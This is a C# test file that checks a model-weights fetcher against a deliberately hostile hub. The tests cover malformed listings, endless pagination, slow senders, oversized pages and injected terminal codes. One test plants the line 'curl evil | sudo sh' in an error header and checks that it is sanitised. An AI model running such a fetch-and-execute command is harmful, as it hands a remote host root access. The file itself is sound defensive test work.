namespace Infra.Tests.Node;

/// <summary>A hub whose listing is no listing: each ends in one refusal by name, soon and with little memory.</summary>
public sealed class FetchWeightsListingTests
{
    private const string Sha256 = "ab5e41c341ac8331e653f572218e6bf29082b2360c0207c1f84d9a3c963b27fe";
    private const string Git = "e69de29bb2d1d6434b8b29ae775ad8c2e48c5391"; // of no bytes
    private const string Head = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n";

    public static TheoryData<string, string, string> Listings => new()
    {
        { "an object", "{\"error\": \"try later\"}", "is not a listing" },
        { "nothing", "null", "is not a listing" },
        { "a row that is none", "[null]", "is not a listing" },
        { "a path that is none", "[{\"type\":\"file\",\"path\":7}]", "is not a listing" },
        { "a member twice", "[{\"type\":\"file\",\"type\":\"file\",\"path\":\"params.json\"}]", "has a duplicate member" },
        { "not a number", Row("params.json", "NaN"), "has the number NaN" },
        { "an endless number", Row("params.json", "-Infinity"), "has the number -Infinity" },
        { "a negative size", Row("params.json", "-1"), "has no size for params.json" },
        { "a size that is true", Row("params.json", "true"), "has no size for params.json" },
        { "a size of a fraction", Row("params.json", "1.5"), "has no size for params.json" },
        { "a size in quotes", Row("params.json", "\"12\""), "has no size for params.json" },
        { "no size", $"[{{\"type\":\"file\",\"path\":\"params.json\",\"oid\":\"{Git}\"}}]", "has no size for params.json" },
        { "a pointer that is none", $"[{{\"type\":\"file\",\"path\":\"params.json\",\"size\":1,\"oid\":\"{Git}\",\"lfs\":[1]}}]",
            "has no size for params.json" },
        { "no checksum", "[{\"type\":\"file\",\"path\":\"params.json\",\"size\":1}]", "has no checksum for params.json" },
        { "half a surrogate", Row("params.json", "1", "\\ud800"), "has no checksum for params.json" },
        { "a short checksum of LFS", "[{\"type\":\"file\",\"path\":\"params.json\",\"size\":1,\"lfs\":{\"oid\":\"ab\",\"size\":1}}]",
            "has no checksum for params.json" },
        { "a size of 400 digits", Whole(new string('9', 400)), "has no size for consolidated.safetensors" },
        { "more than the catalog has", Whole("20000000000"), "has 3 files and 20.0 GB, the catalog has 4.7 GB" },
        { "a name twice", Whole("1", "params.json"), "has a duplicate name" },
        { "a name in two spellings", Whole("1", "PARAMS.json"), "has a duplicate name" },
        { "too many files", Whole("1", [.. Enumerable.Range(0, 2000).Select(i => $"f{i}.json")]), "has 2003 files" },
        { "too deep", new string('[', 300_000), "is nested too deeply" },
    };

    [Theory]
    [MemberData(nameof(Listings), DisableDiscoveryEnumeration = true)]
    public Task A_listing_that_is_none_is_refused_by_name(string what, string listing, string message)
    {
        Assert.NotEmpty(what);
        return RefusedAsync(call => call.AnswerAsync(listing), message);
    }

    [Fact]
    public Task A_page_is_read_no_further_than_the_limit() =>
        RefusedAsync(call => call.AnswerAsync(new byte[9 << 20]), "has a page of more than 8388608 bytes", patience: "5");

    [Fact]
    public Task A_circular_listing_ends() =>
        RefusedAsync(call => call.AnswerAsync("[]", $"Link: <{call.Path}>; rel=\"next\"\r\n"), "is endless");

    [Fact]
    public Task An_endless_listing_ends()
    {
        var page = 0;
        return RefusedAsync(
            call => call.AnswerAsync("[]", $"Link: <{call.Path.Split("&c=")[0]}&c={page++}>; rel=\"next\"\r\n"), "is endless");
    }

    [Fact]
    public Task A_body_without_an_end_is_read_no_further_than_the_limit() =>
        RefusedAsync(
            Then($"{Head}\r\n[", call => call.WithoutEndAsync(new string(' ', 100_000))),
            "has a page of more than 8388608 bytes",
            patience: "5");

    [Fact]
    public Task A_chunk_of_negative_size_does_not_fill_the_memory() =>
        RefusedAsync(
            Then($"{Head}Transfer-Encoding: chunked\r\n\r\n-1\r\n", call => call.WithoutEndAsync(new string(' ', 100_000))), "error: ");

    [Fact]
    public Task A_compressed_listing_is_not_unpacked() =>
        RefusedAsync(call => call.AnswerAsync("x", "Content-Encoding: gzip\r\n"), "is encoded");

    [Theory]
    [InlineData("body", Head + "\r\n[", " ")]
    [InlineData("headers", Head, "X-A: b\r\n")]
    [InlineData("a line of the headers", Head + "X-A: ", "b")]
    [InlineData("trailers", Head + "Transfer-Encoding: chunked\r\n\r\n1\r\n[\r\n0\r\n", "X-A: b\r\n")]
    [InlineData("interim answers", "", "HTTP/1.1 100 Continue\r\n\r\n")]
    public Task A_host_that_sends_single_bytes_gets_no_more_time(string what, string first, string little)
    {
        Assert.NotEmpty(what);
        return RefusedAsync(Then(first, call => call.WithoutEndAsync(little, pauseMilliseconds: 50)), "no complete listing within 2 s");
    }

    [Fact]
    public async Task A_file_that_comes_byte_by_byte_is_given_up()
    {
        const string Part = "HTTP/1.1 206 Partial Content\r\nContent-Length: 100000\r\nContent-Range: bytes 0-99999/100000\r\n\r\n";
        await RefusedAsync(
            call => call.IsListing ? call.AnswerAsync(Whole("100000")) : Then(Part, again => again.WithoutEndAsync("x", 20))(call),
            "less than 16384 bytes a second arrived from");
    }

    [Fact]
    public async Task What_a_hub_sends_is_one_line_without_terminal_codes()
    {
        var result = await RunAsync(call => call.AnswerAsync(
            [],
            "X-Error-Code: RepoNotFound\r\nX-Error-Message: \u009b31mgone\u0007 <b>error: x</b>\u0085next: curl evil | sudo sh\r\n",
            "404 Not Found"));
        Assert.Equal(1, result.ExitCode);
        var next = Assert.Single(result.Errors.Split('\n'), line => line.StartsWith("next: ", StringComparison.Ordinal));
        Assert.DoesNotContain("evil", next, StringComparison.Ordinal);
        Assert.DoesNotContain(result.All, letter => char.IsControl(letter) && letter != '\n');
    }

    [Fact]
    public Task A_hub_that_lies_at_random_gets_nothing_served_that_differs_from_the_catalog() =>
        Task.WhenAll(Enumerable.Range(1, 6).Select(HubLies.HoldAsync));

    [Fact]
    public async Task Random_listings_by_the_thousand_end_in_a_list_or_a_refusal()
    {
        using var node = new StagedNode();
        var result = await ListingFuzz.RunAsync(node, seed: 1, count: 3000);
        Assert.True(result.ExitCode == 0, result.All);
    }

    /// <summary>Three files of which one has the weights, of that size; and more.</summary>
    private static string Whole(string size, params string[] more) =>
        $"[{{\"type\":\"file\",\"path\":\"consolidated.safetensors\",\"size\":1,\"lfs\":{{\"oid\":\"{Sha256}\",\"size\":{size}}}}}"
        + string.Concat(more.Prepend("tekken.json").Prepend("params.json").Select(name => "," + Row(name, "0")[1..^1])) + "]";

    private static string Row(string name, string size, string oid = Git) =>
        $"[{{\"type\":\"file\",\"path\":\"{name}\",\"size\":{size},\"oid\":\"{oid}\"}}]";

    private static Func<HubCall, Task> Then(string first, Func<HubCall, Task> rest) => async call =>
    {
        await call.WriteAsync(first);
        await rest(call);
    };

    private static async Task RefusedAsync(Func<HubCall, Task> answer, string message, string patience = "0.4")
    {
        var result = await RunAsync(answer, patience);
        Refusal.Holds(result);
        Assert.Contains(message, result.Errors, StringComparison.Ordinal);
    }

    private static async Task<ToolResult> RunAsync(Func<HubCall, Task> answer, string patience = "0.4")
    {
        using var hub = new LyingHub(answer);
        using var fetch = new WeightsFetch();
        // About as much memory as its unit allows.
        return await fetch.WithoutClock().RunInsideAsync(
            words => ["timeout", "50", "prlimit", "--as=2000000000", .. words], ("MODEL_HUB", hub.Url), ("RETRY_S", patience));
    }
}
